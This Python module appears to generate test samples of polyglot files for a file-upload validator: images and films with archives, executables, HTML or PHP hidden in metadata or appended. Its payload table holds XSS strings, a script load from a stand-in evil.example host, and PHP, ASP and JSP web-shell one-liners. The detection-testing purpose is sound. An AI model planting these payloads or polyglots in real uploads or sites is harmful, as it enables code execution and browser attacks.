"""Valid files that contain a second format: before, after or inside."""

import struct
from collections.abc import Iterator

from testkit.corpus import foreign
from testkit.corpus.bad_impostors import valid
from testkit.corpus.ebml_bytes import VOID, element
from testkit.corpus.good_webp_bmp import bmp
from testkit.corpus.isobmff_bytes import box, film, ftyp, full
from testkit.corpus.jpeg_bytes import XMP_HEAD, exif, jpeg, samsung_trailer, segment, with_segments
from testkit.corpus.png_bytes import chunk as png_chunk
from testkit.corpus.png_bytes import extension, gif, png
from testkit.corpus.riff_bytes import chunk, listing
from testkit.corpus.sample import (  # fmt: skip
    AVI,
    BMP,
    EXTENSIONS,
    GIF,
    JPEG,
    MOV,
    MP4,
    MPEG,
    PNG,
    SVG,
    TIFF,
    WEBM,
    WEBP,
    WMV,
    Sample,
    bad,
)
from testkit.corpus.tiff_bytes import ASCII, UNDEFINED, rgb, tiff

_HIDDEN = "polyglot|active_content|malformed"
_IN_TEXT = "polyglot|active_content"
_MARKUP = {
    "html": foreign.HTML,
    "php": foreign.PHP,
    "script": b"<script>alert(1)</script>",
    "script-src": b"<ScRiPt/src=//evil.example></sCrIpT>",
    "svg-onload": b"<svg/onload=alert(1)>",
    "img-onerror": b"<img src=x onerror=alert(1)>",
    "body-onload": b"<body onload=alert(1)>",
    "iframe": b"<iframe src=javascript:alert(1)>",
    "link-javascript": b'<a href="javascript:alert(1)">x</a>',
    "refresh": b'<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "php-echo": b"<?=system($_GET[0])?>",
    "php-backticks": b"<?=`$_GET[0]`?>",
    "php-short": b'<? system("id"); ?>',
    "php-script": b'<script language="php">system("id");</script>',
    "asp": b'<%eval request("x")%>',
    "jsp": b'<%@page import="java.lang.*"%><%Runtime.getRuntime().exec("id");%>',
}


def samples() -> Iterator[Sample]:
    yield from _tails()
    yield from _in_metadata()
    yield from _in_films()
    yield from _classics()


def _tails() -> Iterator[Sample]:
    """Yields files with another file appended; archive programs open such archives (GIFAR)."""
    archives, programs = foreign.archives(), foreign.programs()
    tails = {
        name: archives[name]
        for name in ("zip", "zip-stored", "jar", "docx", "rar4", "rar5", "7z", "cab", "tar", "gzip")
    }
    tails |= {"zip-comment": foreign.zipped({"a": b"x"}, comment=b"c" * 3000), "zip-far": bytes(9000) + archives["zip"]}
    tails |= {"elf": programs["elf"], "pe": programs["pe"], "pdf": foreign.TEXTS["pdf"], "html": foreign.HTML}
    tails |= {
        "php": foreign.PHP,
        "shell": foreign.TEXTS["shell"],
        "phar": foreign.PHP + b"__HALT_COMPILER(); ?>\r\n" + bytes(60),
    }
    for declared, content in valid().items():
        for name, tail in tails.items():
            text = declared == SVG
            reasons = "malformed|polyglot|active_content|unsupported_type" if text else "polyglot|malformed"
            reasons = "polyglot" if name.startswith(("zip", "jar", "docx")) and not text else reasons
            label = f"tail/{EXTENSIONS[declared]}-then-{name}"
            yield bad(label, declared, content + tail, reasons, "another file is appended")


def _in_metadata() -> Iterator[Sample]:
    photo, archive = jpeg(), foreign.archives()["zip-stored"]
    for name, text in _MARKUP.items():
        why = "a web server or a browser that guesses types runs it"
        inside = {
            f"jpeg-comment-{name}": (JPEG, with_segments(photo, segment(0xFE, text))),
            f"jpeg-exif-{name}": (JPEG, with_segments(photo, segment(0xE1, exif(comment=text)))),
            f"jpeg-maker-{name}": (JPEG, with_segments(photo, segment(0xE1, exif(maker=text)))),
            f"jpeg-app13-{name}": (JPEG, with_segments(photo, segment(0xED, b"Photoshop 3.0\0" + text))),
            f"jpeg-app15-{name}": (JPEG, with_segments(photo, segment(0xEF, text))),
            f"jpeg-comment-after-tables-{name}": (JPEG, _before_scan(photo, segment(0xFE, text))),
            f"jpeg-sef-{name}": (JPEG, photo + samsung_trailer({b"Image_UTC_Data": text})),
            f"png-text-{name}": (PNG, png(before=png_chunk(b"tEXt", b"Comment\0" + text))),
            f"png-text-last-{name}": (PNG, png(after=png_chunk(b"tEXt", b"Comment\0" + text))),
            f"png-itxt-{name}": (PNG, png(before=png_chunk(b"iTXt", b"Comment\0\0\0\0\0" + text))),
            f"png-private-{name}": (PNG, png(before=png_chunk(b"abCd", text))),
            f"gif-comment-{name}": (GIF, gif(before=extension(0xFE, b"", text))),
            f"gif-comment-last-{name}": (GIF, gif(after=extension(0xFE, b"", text))),
            f"gif-application-{name}": (GIF, gif(before=extension(0xFF, b"EVILEVIL1.0", text))),
            f"tiff-description-{name}": (TIFF, tiff(rgb(extra={0x010E: (ASCII, text + b"\0")}))),
            f"tiff-artist-{name}": (TIFF, tiff(rgb(extra={0x013B: (ASCII, text + b"\0")}))),
            f"tiff-private-{name}": (TIFF, tiff(rgb(extra={0xC5F1: (UNDEFINED, text)}))),
            f"webp-exif-{name}": (WEBP, _appended(valid()[WEBP], chunk(b"EXIF", text))),
            f"webp-xmp-{name}": (WEBP, _appended(valid()[WEBP], chunk(b"XMP ", text))),
            f"webp-unknown-{name}": (WEBP, _appended(valid()[WEBP], chunk(b"abcd", text))),
            f"bmp-gap-{name}": (BMP, bmp(gap=len(text)).replace(bytes(len(text)), text, 1)),
            f"bmp-tail-{name}": (BMP, bmp() + text),
            f"avi-info-{name}": (AVI, _appended(valid()[AVI], listing(b"INFO", chunk(b"ICMT", text)))),
            f"mp4-udta-{name}": (MP4, film().last(ftyp(b"mp42"), extra=(box(b"udta", box(b"\xa9cmt", text)),))),
        }  # fmt: skip
        for label, (declared, content) in inside.items():
            reasons = _HIDDEN if declared in {WEBP, BMP} or "sef" in label else _IN_TEXT
            yield bad(f"metadata/{label}", declared, content, reasons, why)
    for name in ("rar4", "rar5", "7z", "cab"):
        hidden = foreign.archives()[name]
        why = "unpackers look for the archive wherever it begins"
        for label, part in {"comment": segment(0xFE, hidden), "app15": segment(0xEF, hidden)}.items():
            yield bad(f"metadata/jpeg-{label}-{name}", JPEG, with_segments(photo, part), "polyglot", why)
        yield bad(f"metadata/png-private-{name}", PNG, png(before=png_chunk(b"abCd", hidden)), "polyglot", why)
        application = extension(0xFF, b"EVILEVIL1.0", hidden)
        yield bad(f"metadata/gif-application-{name}", GIF, gif(before=application), "polyglot", why)
        private = tiff(rgb(extra={0xC5F1: (UNDEFINED, hidden)}))
        yield bad(f"metadata/tiff-private-{name}", TIFF, private, "polyglot", why)
        unknown = _appended(valid()[WEBP], chunk(b"abcd", hidden))
        yield bad(f"metadata/webp-unknown-{name}", WEBP, unknown, "polyglot", why)
    image = foreign.archives()["iso"][len(photo) :]
    yield bad("metadata/jpeg-iso", JPEG, photo + image, "polyglot", "a disk image leaves its first 32 KB free")
    for name, trailer in {"vhd": b"conectix\0\0\0\x02" + bytes(500), "dmg": foreign.archives()["dmg"]}.items():
        yield bad(
            f"metadata/jpeg-{name}", JPEG, photo + trailer, "polyglot", "disk images are known by their last 512 bytes"
        )
    hidden = with_segments(photo, segment(0xFE, archive)) + archive[-22:]
    yield bad(
        "metadata/jpeg-zip-directory-behind", JPEG, hidden, "polyglot", "the archive's end stands at the file's end"
    )
    packet = with_segments(photo, segment(0xE1, XMP_HEAD + foreign.HTML))
    yield bad("metadata/jpeg-xmp-html", JPEG, packet, _IN_TEXT, "a web page instead of a packet of XMP")


def _before_scan(photo: bytes, part: bytes) -> bytes:
    at = photo.index(b"\xff\xda")
    return photo[:at] + part + photo[at:]


def _appended(content: bytes, part: bytes) -> bytes:
    """Returns the RIFF file with one more chunk inside its size."""
    return content[:4] + struct.pack("<I", len(content) - 8 + len(part)) + content[8:] + part


def _in_films() -> Iterator[Sample]:
    media, head = film(), ftyp(b"isom", b"isom", b"mp42")
    for name, content in _MARKUP.items():
        why = "a browser or server that guesses types runs it"
        for kind in (b"free", b"skip"):
            label = f"film/mp4-{kind.decode()}-{name}"
            yield bad(f"{label}-first", MP4, media.last(head + box(kind, content)), _IN_TEXT, why)
            yield bad(f"{label}-at-the-start", MP4, media.last(box(kind, content) + head), _IN_TEXT, why)
            yield bad(f"{label}-last", MP4, media.last(head, tail=box(kind, content)), _IN_TEXT, why)
        unknown = box(b"uuid", bytes(16), content)
        yield bad(f"film/mp4-uuid-{name}", MP4, media.last(head + unknown), _IN_TEXT, why)
        handler = full(b"hdlr", bytes(4), b"mdir", bytes(13))
        meta = full(b"meta", handler, full(b"xml ", content))
        yield bad(f"film/mp4-meta-{name}", MP4, media.last(head, tail=meta), _IN_TEXT, why)
        classic = film("mov").last(box(b"skip", content))
        yield bad(f"film/mov-skip-{name}", MOV, classic, _IN_TEXT, why)
        webm = valid()[WEBM]
        at = webm.index(b"\x18\x53\x80\x67")
        between = webm[:at] + element(VOID, content) + webm[at:]
        yield bad(f"film/webm-void-{name}", WEBM, between, _HIDDEN, why)
        yield bad(f"film/avi-junk-{name}", AVI, _appended(valid()[AVI], chunk(b"JUNK", content)), _IN_TEXT, why)
        yield bad(f"film/mpeg-tail-{name}", MPEG, valid()[MPEG] + content, _HIDDEN, why)
    for name in ("zip", "jar", "zip-stored"):
        archive = foreign.archives()[name]
        why = "unpackers look for the archive from the end of the file"
        yield bad(f"film/mp4-free-{name}", MP4, media.last(head, tail=box(b"free", archive)), "polyglot", why)
        yield bad(f"film/mov-free-{name}", MOV, film("mov").last(b"", tail=box(b"skip", archive)), "polyglot", why)
        yield bad(f"film/avi-junk-{name}", AVI, _appended(valid()[AVI], chunk(b"JUNK", archive)), "polyglot", why)
        padded = media.last(head, tail=box(b"free", bytes(90_000) + archive))
        yield bad(f"film/mp4-large-free-{name}", MP4, padded, "polyglot", why)
    pdf = box(b"free", foreign.TEXTS["pdf"])
    yield bad(
        "film/mp4-free-pdf",
        MP4,
        media.last(pdf + head),
        "polyglot|active_content",
        "PDF readers look at the first 1 KB",
    )
    yield bad(
        "film/wmv-tail-zip", WMV, valid()[WMV] + foreign.archives()["zip"], "polyglot", "an archive behind a film"
    )
    yield bad("film/two-films", MP4, media.last(head) * 2, "polyglot|malformed", "two films in a file")
    yield bad("film/two-wmv", WMV, valid()[WMV] * 2, "polyglot|malformed", "two films in a file")
    yield bad("film/mp4-then-webm", MP4, media.last(head) + valid()[WEBM], "polyglot|malformed", "two films in a file")
    yield bad("film/webm-then-mp4", WEBM, valid()[WEBM] + media.last(head), "polyglot|malformed", "two films in a file")
    yield bad(
        "film/avi-then-wav", AVI, valid()[AVI] + foreign.media()["wav"], "polyglot|malformed", "a sound behind a film"
    )
    yield bad(
        "film/mp4-then-html-box-like", MP4, media.last(head) + b"\0\0\0\x40" + foreign.HTML, _HIDDEN, "no box at all"
    )


def _classics() -> Iterator[Sample]:
    """Yields the constructions of Corkami, mitra and PoC||GTFO."""
    pixels = b"*/=1;" + foreign.JS
    script = b"GIF89a/*" + gif(size=(1, 1))[8:]
    for name, tail in {"comment": b"*/=1;alert(1)//", "late": bytes(300) + b"*/=1;alert(1)//"}.items():
        yield bad(
            f"classic/gif-js-{name}", GIF, script + tail, "polyglot|malformed|active_content", "GIF and JavaScript"
        )
    gif_js = gif(
        size=(0x2A2F, 1), before=extension(0xFE, b"", b"*/=1;alert(1);/*"), after=extension(0xFE, b"", b"*/alert(1)//")
    )
    yield bad("classic/gif-js-in-width", GIF, gif_js, "polyglot|malformed|active_content", "the width opens a comment")
    start = struct.pack("<2sIHHI", b"BM", 0x2A2F, 0, 0, 54)
    script = start + bmp()[14:] + pixels
    yield bad("classic/bmp-js", BMP, script, "polyglot|malformed", "the size opens a comment, the tail closes it")
    yield bad("classic/bmp-js-sized", BMP, script.ljust(0x2A2F, b"/"), "polyglot|malformed", "and is right as well")
    jpeg_js = b"\xff\xd8\xff\xe0" + b"/*" + bytes(0x2F2A - 2) + jpeg()[20:]
    closing = segment(0xFE, b"*/=alert(1);/*")
    script = jpeg_js[: 4 + 0x2F2A] + closing + jpeg_js[4 + 0x2F2A :] + b"*///"
    yield bad("classic/jpeg-js", JPEG, script, "polyglot|malformed|active_content", "the length opens a comment (2016)")
    phar = foreign.PHP + b"__HALT_COMPILER(); ?>\r\n" + struct.pack("<II", 60, 0) + bytes(80) + b"GBMB"
    yield bad(
        "classic/jpeg-phar",
        JPEG,
        with_segments(jpeg(), segment(0xFE, phar)) + b"GBMB",
        "polyglot|active_content",
        "PHAR",
    )
    yield bad("classic/gif-phar", GIF, gif(before=extension(0xFE, b"", phar)), "polyglot|active_content", "PHAR")
    yield bad(
        "classic/pdf-in-jpeg-comment",
        JPEG,
        with_segments(jpeg(), segment(0xFE, foreign.TEXTS["pdf"])),
        "polyglot",
        "PDF",
    )
    yield bad(
        "classic/pdf-in-png-chunk", PNG, png(before=png_chunk(b"cOMM", foreign.TEXTS["pdf"])), "polyglot", "mitra"
    )
    yield bad(
        "classic/zip-in-png-chunk", PNG, png(after=png_chunk(b"cOMM", foreign.archives()["zip"])), "polyglot", "mitra"
    )
    ended = png() + bytes(9) + foreign.archives()["rar5"] + png()[-12:]
    yield bad("classic/rar-before-a-second-end", PNG, ended, "polyglot", "no remains of an image")
    yield bad("classic/html-before-gif", GIF, foreign.HTML + gif(), "unsupported_type", "the page stands in front")
    yield bad("classic/php-before-jpeg", JPEG, foreign.PHP + jpeg(), "unsupported_type", "the program stands in front")
    yield bad(
        "classic/zip-before-jpeg", JPEG, foreign.archives()["zip"] + jpeg(), "unsupported_type", "the archive in front"
    )
    yield bad(
        "classic/pdf-before-jpeg", JPEG, foreign.TEXTS["pdf"] + jpeg(), "unsupported_type", "the document in front"
    )
    yield bad(
        "classic/tar-named-jpeg", JPEG, jpeg()[:100].ljust(257, b"\0") + b"ustar\x0000" + bytes(2000), _HIDDEN, "tar"
    )
    for name, tail in {"jpeg-then-png": png(), "jpeg-then-gif": gif()}.items():
        yield bad(
            f"classic/{name}-then-zip", JPEG, jpeg() + tail + foreign.archives()["zip"], "polyglot", "three in one"
        )
    motion = film().last(ftyp(b"mp42", b"isom"))
    evil = motion + foreign.archives()["jar"]
    yield bad("classic/motion-photo-then-jar", JPEG, jpeg() + evil, "polyglot", "an archive behind a motion photo")
    inside = film().last(ftyp(b"mp42", b"isom"), tail=box(b"free", foreign.archives()["jar"]))
    yield bad("classic/jar-in-motion-photo", JPEG, jpeg() + inside, "polyglot", "an archive within a motion photo")
    yield bad(
        "classic/ftyp-then-html", JPEG, jpeg() + ftyp(b"mp42") + foreign.HTML, "polyglot|malformed", "no motion photo"
    )
